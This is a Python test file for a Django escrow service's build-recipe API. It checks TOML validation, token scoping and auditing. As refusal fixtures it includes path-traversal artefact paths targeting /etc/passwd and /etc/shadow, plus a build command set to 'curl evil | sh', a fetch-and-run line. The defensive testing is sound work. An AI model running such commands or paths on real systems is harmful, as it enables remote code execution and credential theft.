"""A product's build recipe, set by its release pipeline with the deposit token:
``PUT /api/v1/products/<slug>/build-recipe`` checks the escrow.toml text as an
archive's would be (a hostile or broken one is answered 400 naming the problem, and
nothing is saved), ``GET`` answers it, and a token touches its own product only."""

from __future__ import annotations

import pytest
from django.test import Client

from escrow.services.build_recipes import product_recipe_set
from escrow.services.tokens import token_create, token_revoke
from records.models import AuditEntry
from tests.factories import ProductFactory
from vault.build_recipe import MAX_RECIPE_BYTES, RecipeError
from verification.models import ProductBuildRecipe

URL = "/api/v1/products/ledger-pro/build-recipe"
RECIPE = """\
[build]
command = "make all"
artefacts = ["build/ledger", "build/*.so"]
time_limit = 300

[toolchain]
gcc = ">=12"
make = "*"
"""


@pytest.fixture
def issued(product, staff):
    return token_create(product=product, label="CI", actor=staff)


def put(secret: str | None, body: bytes | str, url: str = URL):
    auth = {"HTTP_AUTHORIZATION": f"Bearer {secret}"} if secret is not None else {}
    data = body.encode() if isinstance(body, str) else body
    return Client().put(url, data=data, content_type="application/toml", **auth)


def get(secret: str | None, url: str = URL):
    auth = {"HTTP_AUTHORIZATION": f"Bearer {secret}"} if secret is not None else {}
    return Client().get(url, **auth)


def test_a_pipeline_sets_the_recipe_and_reads_it_back(issued, product) -> None:
    response = put(issued.secret, RECIPE)
    assert response.status_code == 200, response.content
    answer = response.json()
    assert answer["product"] == "ledger-pro"
    assert answer["text"] == RECIPE
    assert answer["recipe"] == {
        "command": "make all",
        "artefacts": ["build/ledger", "build/*.so"],
        "time_limit_seconds": 300,
        "toolchain": {"gcc": ">=12", "make": "*"},
        "source": "product",
    }
    assert answer["problem"] == ""
    stored = ProductBuildRecipe.objects.get(product=product)
    assert stored.text == RECIPE and stored.updated_by is None
    entry = AuditEntry.objects.get(action="productbuildrecipe.add")
    assert entry.actor_label == f"token:{issued.token.prefix}"

    again = get(issued.secret)
    assert again.status_code == 200
    assert again.json()["text"] == RECIPE

    replaced = RECIPE.replace("make all", "make release")
    assert put(issued.secret, replaced).status_code == 200
    assert ProductBuildRecipe.objects.get(product=product).text == replaced
    assert AuditEntry.objects.filter(action="productbuildrecipe.change").count() == 1


def test_get_without_a_recipe_says_the_archive_s_file_is_used(issued) -> None:
    response = get(issued.secret)
    assert response.status_code == 404
    assert response.json()["detail"] == (
        "ledger-pro has no build recipe; its archives' escrow.toml is used."
    )


@pytest.mark.parametrize(
    ("body", "problem"),
    [
        ("[build\ncommand = 'make'", "escrow.toml: not valid TOML"),
        ("[build]\nartefacts = ['a']\n", "build.command: missing"),
        ("[build]\ncommand = 'make'\nartefacts = []\n", "build.artefacts: is empty"),
        (
            "[build]\ncommand = 'make'\nartefacts = ['../../etc/passwd']\n",
            "build.artefacts[0]: '../../etc/passwd' contains '..'",
        ),
        (
            "[build]\ncommand = 'make'\nartefacts = ['/etc/shadow']\n",
            "build.artefacts[0]: '/etc/shadow' is absolute",
        ),
        (
            "[build]\ncommand = 'make'\nartefacts = ['a']\ntime_limit = 999999\n",
            "build.time_limit: 999999 s is above the maximum",
        ),
        (
            "[build]\ncommand = 'make'\nartefacts = ['a']\n[toolchain]\n'../bin/sh' = '*'\n",
            "toolchain.../bin/sh: not a program name",
        ),
        (
            "[build]\ncommand = 'make'\nartefacts = ['a']\nnetwork = true\n",
            "build.network: unknown key",
        ),
        (b"\xff\xfe[build]", "escrow.toml: not UTF-8 text"),
        (b"#" * (MAX_RECIPE_BYTES + 1), "escrow.toml: larger than 64 KiB"),
        ("", "[build]: missing section"),
    ],
)
def test_a_hostile_or_broken_recipe_is_refused_naming_the_problem(
    issued, product, body, problem
) -> None:
    response = put(issued.secret, body)
    assert response.status_code == 400
    assert problem in response.json()["detail"]
    assert not ProductBuildRecipe.objects.exists()
    assert not AuditEntry.objects.filter(action__startswith="productbuildrecipe").exists()


def test_a_refused_recipe_leaves_the_one_set_before(issued, product) -> None:
    assert put(issued.secret, RECIPE).status_code == 200
    assert put(issued.secret, "[build]\ncommand = 1\n").status_code == 400
    assert ProductBuildRecipe.objects.get(product=product).text == RECIPE


@pytest.mark.parametrize("secret", [None, "esc_000000000000_wrong", "not-a-token"])
def test_requests_without_a_valid_token_are_refused(issued, secret) -> None:
    assert put(secret, RECIPE).status_code == 401
    assert get(secret).status_code == 401
    assert not ProductBuildRecipe.objects.exists()


def test_a_revoked_token_is_refused(issued, staff) -> None:
    token_revoke(token=issued.token, actor=staff)
    assert put(issued.secret, RECIPE).status_code == 401
    assert not ProductBuildRecipe.objects.exists()


def test_a_token_cannot_read_or_set_another_product_s_recipe(issued, vendor, staff) -> None:
    other = ProductFactory(vendor=vendor, name="Fleet Planner", slug="fleet-planner")
    other_url = "/api/v1/products/fleet-planner/build-recipe"
    product_recipe_set(product=other, text=RECIPE, actor=staff)
    response = put(issued.secret, RECIPE.replace("make all", "curl evil | sh"), other_url)
    assert response.status_code == 403
    assert response.json()["detail"] == "This token is for ledger-pro, not fleet-planner."
    assert ProductBuildRecipe.objects.get(product=other).text == RECIPE
    assert get(issued.secret, other_url).status_code == 403
    # A product that does not exist is answered the same: nothing is learnt about it.
    assert put(issued.secret, RECIPE, "/api/v1/products/nope/build-recipe").status_code == 403


def test_a_browser_session_cannot_use_the_recipe_api(issued, staff) -> None:
    client = Client()
    client.force_login(staff)
    assert client.put(URL, data=RECIPE, content_type="application/toml").status_code == 401


def test_the_service_records_staff_and_refuses_another_product_s_token(
    issued, product, vendor, staff
) -> None:
    recipe = product_recipe_set(product=product, text=RECIPE, actor=staff)
    assert recipe.updated_by == staff
    assert AuditEntry.objects.get(action="productbuildrecipe.add").actor == staff
    with pytest.raises(RecipeError, match=r"build\.command: missing"):
        product_recipe_set(product=product, text="[build]\nartefacts = ['a']\n", actor=staff)
    other = ProductFactory(vendor=vendor, name="Fleet Planner", slug="fleet-planner")
    with pytest.raises(PermissionError, match="This token is for ledger-pro, not fleet-planner"):
        product_recipe_set(product=other, text=RECIPE, actor=issued.token)
    assert not ProductBuildRecipe.objects.filter(product=other).exists()
